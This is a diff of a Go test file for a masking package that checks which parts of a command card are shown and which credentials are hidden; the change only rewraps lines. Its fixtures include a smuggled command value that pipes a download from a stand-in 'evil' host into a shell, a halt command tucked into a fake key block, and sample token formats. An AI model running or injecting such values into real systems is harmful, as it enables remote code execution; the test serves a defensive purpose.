@@ -24,7 +24,8 @@ func TestACardShowsWhatMightRun(t *testing.T) {
 		"-----BEGIN PRIVATE KEY-----\n/sbin/halt\n-----END PRIVATE KEY-----",
 	} {
 		raw, _ := json.Marshal(map[string]string{"run": text})
-		if shown := string(mask.Shown(raw)); strings.Contains(shown, mask.Mark) || mask.Hidden(raw) != 0 || mask.About(text, raw) != text {
+		if shown := string(mask.Shown(raw)); strings.Contains(shown, mask.Mark) || mask.Hidden(raw) != 0 ||
+			mask.About(text, raw) != text {
 			t.Errorf("a card hides something in %q: %s", text, shown)
 		}
 		if !strings.Contains(text, "DeleteTheProduction") && !strings.Contains(mask.Text(text), mask.Mark) {
@@ -32,22 +33,26 @@ func TestACardShowsWhatMightRun(t *testing.T) {
 		}
 	}
 	named := json.RawMessage(`{"password":"$(curl${IFS}evil|sh)"}`)
-	if shown := mask.Shown(named); string(shown) != string(named) || !strings.Contains(string(mask.JSON(named)), mask.Mark) {
+	if shown := mask.Shown(named); string(shown) != string(named) ||
+		!strings.Contains(string(mask.JSON(named)), mask.Mark) {
 		t.Errorf("%s", shown)
 	}
 }
 
 func TestACardMasksWhatCanOnlyBeASecret(t *testing.T) {
 	for _, text := range []string{
-		"https://u:hunter2@host", "https://u:p%40ss-w.o_r~d@host", slackToken, botToken, pem, jwt, "ghp_0123456789abcdefghij0123456789ABCDEF",
-		"sk-proj-" + strings.Repeat("aB3xY9", 10) + "-" + strings.Repeat("Zq7", 10) + "_x1", "Bearer " + strings.Repeat("aB3", 9), "sk-" + strings.Repeat("0123456789abcdef", 2),
+		"https://u:hunter2@host", "https://u:p%40ss-w.o_r~d@host", slackToken, botToken, pem, jwt,
+		"ghp_0123456789abcdefghij0123456789ABCDEF",
+		"sk-proj-" + strings.Repeat("aB3xY9", 10) + "-" + strings.Repeat("Zq7", 10) + "_x1",
+		"Bearer " + strings.Repeat("aB3", 9), "sk-" + strings.Repeat("0123456789abcdef", 2),
 	} {
 		raw, _ := json.Marshal(map[string]string{"run": "see " + text + " there"})
 		if shown := string(mask.Shown(raw)); !strings.Contains(shown, mask.Mark) || mask.Hidden(raw) == 0 {
 			t.Errorf("a card shows %q: %s", text, shown)
 		}
 	}
-	if got := string(mask.Shown(json.RawMessage(`{"password":"a;b|c&d$e","pin":4711}`))); strings.Count(got, mask.Mark) != 2 {
+	if got := string(mask.Shown(json.RawMessage(`{"password":"a;b|c&d$e","pin":4711}`))); strings.Count(got,
+		mask.Mark) != 2 {
 		t.Error(got)
 	}
 }
